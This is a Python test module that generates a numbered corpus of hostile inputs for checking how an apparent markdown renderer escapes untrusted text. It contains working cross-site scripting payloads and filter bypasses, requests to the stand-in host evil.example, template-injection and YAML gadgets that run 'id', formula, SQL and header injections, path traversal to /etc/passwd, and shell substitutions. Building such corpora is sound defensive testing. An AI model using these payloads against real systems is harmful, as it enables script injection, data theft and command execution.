"""Texts that a stranger may send: each would call `alert` or ask `evil.example` where it could.

The techniques are those of the public lists on cross-site scripting and of naughty strings; the
texts are our own. `N` in a text is its number, so that what got through can be named.
"""

from collections.abc import Iterator
from itertools import product

EVIL = "evil.example"

_OUT_OF = (
    "", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</a>",
    "</code></pre>", "</svg>", "</math>", "</noscript>", "</template>", "</summary></details>",
)  # fmt: skip
_ELEMENTS = (
    "<script>alert(N)</script>",
    "<img src=x onerror=alert(N)>",
    "<svg onload=alert(N)>",
    "<details open ontoggle=alert(N)>x</details>",
    '<iframe srcdoc="<script>parent.alert(N)</script>"></iframe>',
    f"<script src=//{EVIL}/N></script>",
    "<input autofocus onfocus=alert(N)>",
    f"<img src=https://{EVIL}/N>",
)
_QUOTES = ('"', "'", "`", " ", "&quot;", "&#34;", "\\x22", "%22")
_ATTRIBUTES = (
    "onmouseover=alert(N) x={0}",
    "autofocus tabindex=0 onfocus=alert(N) x={0}",
    "style={0}animation:spin 1s{0} onanimationstart=alert(N) x={0}",
    f"src=//{EVIL}/N x={{0}}",
    f"http-equiv=refresh content={{0}}0;url=//{EVIL}/N",
    f"style={{0}}background:url(//{EVIL}/N)",
)
_ADDRESSES = (
    "javascript:alert(N)",
    "JaVaScRiPt:alert(N)",
    " javascript:alert(N)",
    "java\tscript:alert(N)",
    "java&#10;script:alert(N)",
    "&#106;avascript:alert(N)",
    "javascript&colon;alert(N)",
    "\x01javascript:alert(N)",
    "javascript%3Aalert(N)",
    "vbscript:MsgBox(N)",
    "data:text/html,<script>alert(N)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(N)'/>",
    f"//{EVIL}/N",
    f"https://{EVIL}/N.png",
    f"\\\\{EVIL}\\N",
    f"/\\{EVIL}/N",
    "file:///etc/passwd#N",
    "blob:null/N",
)
_LINKS = ("[x]({})", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}")
_ENCODED = (
    "&lt;script&gt;alert(N)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(N)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert(N)&#62;",
    "&#x3c;img src=x onerror=alert(N)&#x3e;",
    "%3Cscript%3Ealert(N)%3C/script%3E",
    "\\u003cscript\\u003ealert(N)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(N)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(N)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(N)+ADw-/script+AD4-",
    "<scr<script>ipt>alert(N)</scr</script>ipt>",
    "<\x00script>alert(N)</script>",
    "<script\x0c>alert(N)</script\x0c>",
    "<\u017fcript>alert(N)</\u017fcript>",
    "<IMG\x0bSRC=x\x0bONERROR=alert(N)>",
)
_MARKUP = (
    "{{ 7 * 7 }}{{ cycler.__init__.__globals__.os.popen('id') }} N",
    "{% include '/etc/passwd' %} N",
    "{%- set x = config -%}{{ x }} N",
    "${alert(N)} #{alert(N)} <%= alert(N) %> [[alert(N)]]",
    "words { onclick=alert(N) }",
    '*words*{: onmouseover="alert(N)" }',
    "# words { #x onclick=alert(N) autofocus tabindex=0 onfocus=alert(N) }",
    f"![x](x.png){{ src=//{EVIL}/N }}",
    "[TOC] N",
    '*[words]: "><img src=x onerror=alert(N)>\n\nwords',
    "words[^1]\n\n[^1]: <img src=x onerror=alert(N)>",
    '!!! note "<img src=x onerror=alert(N)>"\n    words',
    '--8<-- "/etc/passwd"\n\nN',
    "<!-- claimbook:map --> <!-- claimbook:map:1 --> N",
    "\x02wzxhzdk:0\x03 N",
    "```claimbook\nclaim: ../../../etc/passwd\n```\n\nN",
    "~~~ { onclick=alert(N) }\nx\n~~~",
    "---\ntemplate: redirect.html\nlocation: //evil.example/N\n---",
    "`<script>alert(N)</script>",
    "``` <img src=x onerror=alert(N)>\nx\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(N)> |",
    "[@missing<img src=x onerror=alert(N)>, p. 2]",
)
_SCRIPTS = (
    "</script><script>alert(N)</script>",
    "<!--<script>alert(N)</script>",
    '","x":"</script><script>alert(N)</script>',
    "\u2028alert(N)\u2029",
    "*/alert(N)/*",
    "'-alert(N)-'",
    '";alert(N);//',
    "\\';alert(N);//",
    "`;${alert(N)}//",
    "};alert(N);{",
    "__proto__",
    "constructor.prototype.N",
)
_STYLES = (
    f"</style><style>*{{background:url(//{EVIL}/N)}}</style>",
    "x:expression(alert(N))",
    f"}}*{{background:url(//{EVIL}/N)}}",
    f"@import '//{EVIL}/N';",
    f"<style>@font-face{{font-family:x;src:url(//{EVIL}/N)}}*{{font-family:x}}</style>",
    "<div style=position:fixed;inset:0;background:red>N</div>",
)
_LOADING = (
    f"<meta http-equiv=refresh content=0;url=//{EVIL}/N>",
    f"<base href=//{EVIL}/N/>",
    f"<link rel=stylesheet href=//{EVIL}/N>",
    f"<link rel=preload as=image href=//{EVIL}/N>",
    f"<form action=//{EVIL}/N><button autofocus>x</button></form>",
    f"<object data=//{EVIL}/N></object>",
    f"<embed src=//{EVIL}/N>",
    f"<video autoplay src=//{EVIL}/N onerror=alert(N)></video>",
    "<audio src=x onerror=alert(N)></audio>",
    f"<picture><source srcset=//{EVIL}/N><img src=x></picture>",
    f"<img srcset='//{EVIL}/N 1x'>",
    f"<iframe src=//{EVIL}/N></iframe>",
    "<math><a xlink:href=javascript:alert(N)>x</a></math>",
    "<svg><script>alert(N)</script></svg>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s></svg>",
    f"<svg><image href=//{EVIL}/N /></svg>",
    f"<svg><use href=//{EVIL}/N#x /></svg>",
    "<svg><foreignObject><img src=x onerror=alert(N)></foreignObject></svg>",
    "<svg><style>@import url(//evil.example/N);</style></svg>",
    "<marquee onstart=alert(N)>x</marquee>",
    "<template shadowrootmode=open><script>alert(N)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(N)>"></p></noscript>',
    "<math><mtext><table><mglyph><style><!--</style><i title='--&gt;&lt;svg onload=alert(N)&gt;'>",
    "<table background=//evil.example/N><td>x</table>",
    "<body onload=alert(N)>",
    "<html onclick=alert(N) manifest=//evil.example/N>",
    "<select><option><script>alert(N)</script></select>",
    "<a href=javascript:alert(N) autofocus onfocus=alert(N)>x</a>",
    "<button popovertarget=x onclick=alert(N)>x</button><div popover id=x onbeforetoggle=alert(N)>",
    "<style onload=alert(N)></style>",
    "<plaintext>N",
    "<xmp>N",
    "</body></html><script>alert(N)</script>",
    "<img name=getElementById><form id=__config><input name=textContent value=N></form>",
    '<div data-md-component="search" data-md-toggle="search">N</div>',
)
_NAUGHTY = (
    "\u202egnp.txt\u202c N",
    "\u2066abc\u2069 \u2067xyz\u2069 N",
    "a\u200bb\u200cc\u200dd\ufeffe N",
    "\u0430dmin (the first letter is Cyrillic) N",
    "Z̷̛̖͈a̸̢͊l̵̹̈g̶̱͝o̷̬͋ N",
    "👩‍👩‍👧‍👦🏳️‍🌈 N",
    "العربية עברית N",
    "../../../../etc/passwd N",
    "..\\..\\..\\windows\\win.ini N",
    "CON NUL aux.txt N",
    "=cmd|'/C calc'!A0 N",
    "@SUM(1+1)*cmd N",
    "\\input{/etc/passwd} N",
    "\\href{javascript:alert(N)}{x}",
    "%s%s%s%n%x {0} {} N",
    "\x1b[31mred\x1b]8;;http://evil.example/N\x07link\x1b]8;;\x07",
    "' OR 1=1; DROP TABLE claims; -- N",
    "x%0d%0aSet-Cookie: a=N",
    "N\r\nLocation: //evil.example/N",
    "null undefined NaN Infinity -0 1e999 N",
    "yes no on off ~ 0o14 0x1F 1_000 12:30:45 N",
    "!!python/object/apply:os.system ['id'] N",
    "&a *a <<: *a N",
    "$(id) `id` ; id | id && id N",
    "\ud7ff\ue000\ufffd\U0010fffd N",
    "A" * 5000 + " N",
    "W" * 300 + "N",
    "(" * 500 + "N" + ")" * 500,
    "[" * 500 + "N" + "]" * 500,
    "*" * 500 + "N" + "_" * 500,
    "> " * 150 + "N",
    "- " * 150 + "N",
)


def _texts() -> Iterator[str]:
    yield from map("".join, product(_OUT_OF, _ELEMENTS))
    for quote, attributes in product(_QUOTES, _ATTRIBUTES):
        yield f"{quote} {attributes.format(quote)}"
    for form, address in product(_LINKS, _ADDRESSES):
        yield form.format(address)
    for family in (_ENCODED, _MARKUP, _SCRIPTS, _STYLES, _LOADING, _NAUGHTY):
        yield from family


PAYLOADS = tuple(
    text.replace("(N)", f"({number})").replace("/N", f"/{number}").replace(" N", f" {number}")
    for number, text in enumerate(_texts())
)
"""Every payload, by its number."""
